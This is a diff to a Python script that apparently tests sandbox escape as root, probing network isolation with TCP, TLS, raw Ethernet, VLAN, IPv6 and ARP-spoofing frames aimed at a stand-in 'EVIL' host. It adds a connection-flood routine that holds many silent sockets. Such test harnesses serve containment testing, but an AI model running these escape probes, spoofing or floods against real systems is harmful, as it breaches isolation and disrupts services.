@@ -1,15 +1,31 @@
 """Tries to get out of a sandbox, as root. Each attack is a call of its own; what
 reaches the world is seen there. It prints what it believes to have achieved."""
-import os, random, socket, ssl, struct, sys, threading
+import os, random, resource, select, socket, ssl, struct, sys, threading, time
 
 EVIL = "203.0.113.66"
 socket.setdefaulttimeout(1.5)
 
 
+def answer(s):
+    """What comes until the end, or until nothing more does."""
+    got = b""
+    while len(got) < 1000:
+        try:
+            part = s.recv(1000)
+        except OSError:
+            if not got:
+                raise
+            break
+        if not part:
+            break
+        got += part
+    return got
+
+
 def tcp(host, port, send=b"GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"):
     with socket.create_connection((host, port)) as s:
         s.sendall(send)
-        return s.recv(1000)
+        return answer(s)
 
 
 def tls(host, name, request_host=None):
@@ -19,7 +35,7 @@ def tls(host, name, request_host=None):
     with socket.create_connection((host, 443)) as raw:
         with context.wrap_socket(raw, server_hostname=name) as s:
             s.sendall(f"GET / HTTP/1.1\r\nHost: {request_host or name}\r\nConnection: close\r\n\r\n".encode())
-            return s.recv(1000)
+            return answer(s)
 
 
 def http(host, name):
@@ -124,6 +140,53 @@ def many(n):
     return b"%d held, %d refused" % (len(held), refused)
 
 
+def crowd(n, host, port):
+    """Opens n connections that say nothing, tells how many there are, and holds
+    them until it is told to let go."""
+    resource.setrlimit(resource.RLIMIT_NOFILE, (n + 100, n + 100))
+    poll, waiting, all = select.poll(), {}, []
+    refused = 0
+
+    def settle(wait):
+        nonlocal refused
+        for fd, _ in poll.poll(wait):
+            poll.unregister(fd)
+            s = waiting.pop(fd)
+            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
+                refused += 1
+                s.close()
+            else:
+                all.append(s)
+
+    for _ in range(n):
+        s = socket.socket()
+        s.setblocking(False)
+        s.connect_ex((host, port))
+        waiting[s.fileno()] = s
+        poll.register(s, select.POLLOUT)
+        if len(waiting) >= 200:
+            settle(5)  # some are never answered
+    for _ in range(30):
+        if waiting:
+            settle(100)
+    refused += len(waiting)
+    held = []
+    for s in all:
+        try:
+            s.recv(1)
+            refused += 1
+        except BlockingIOError:
+            held.append(s)
+        except OSError:
+            refused += 1
+    with open("/tmp/crowd.new", "w") as f:
+        f.write(f"{len(held)} {refused}")
+    os.rename("/tmp/crowd.new", "/tmp/crowd")
+    while not os.path.exists("/tmp/release"):
+        time.sleep(0.05)
+    return b"released"
+
+
 ATTACKS = {
     "tcp": lambda h, p: tcp(h, int(p)), "tls": tls, "http": http, "udp": lambda h, p: udp(h, int(p)), "query": query, "icmp": icmp,
     "no-sni": lambda h: tls(h, None, "allowed.test"),
@@ -137,7 +200,7 @@ ATTACKS = {
     "frame6": lambda: frames([macs()[1] + macs()[0] + b"\x86\xdd" + struct.pack(">IHBB", 6 << 28, 12, 17, 64) + socket.inet_pton(socket.AF_INET6, "2001:db8::bad") + socket.inet_pton(socket.AF_INET6, "2001:db8::2") + udp_bytes(b"six!")] * 3),
     "vlan": lambda: frames([macs()[1] + macs()[0] + b"\x81\x00\x00\x01\x08\x00" + ip(own(), EVIL, 17, udp_bytes(b"vlan"))] * 3),
     "arp": lambda *ips: frames([arp(op, macs()[0], i, own()) for i in ips for op in (1, 2)] * 3),
-    "many": lambda n: many(int(n)),
+    "many": lambda n: many(int(n)), "crowd": lambda n, h, p: crowd(int(n), h, int(p)),
 }
 
 def judged(answer):
